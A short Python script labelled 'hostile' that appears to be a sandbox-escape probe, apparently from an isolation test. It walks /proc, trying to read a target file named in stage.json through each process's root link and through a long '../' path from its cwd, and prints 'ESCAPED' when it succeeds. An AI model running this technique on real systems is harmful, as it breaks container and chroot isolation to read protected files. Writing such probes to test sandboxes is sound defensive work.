# ruff: noqa: SIM115 - hostile, and short
"""Goes through the root folder of every process that /proc shows."""

import json
import os
import sys

STAGE = json.load(open("stage.json"))

for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    for way in ("root", "cwd/" + "../" * 40):
        try:
            print("ESCAPED", open(f"/proc/{pid}/{way}/{STAGE['ledger']}").read())
            sys.exit()
        except OSError as error:
            last = error
raise last
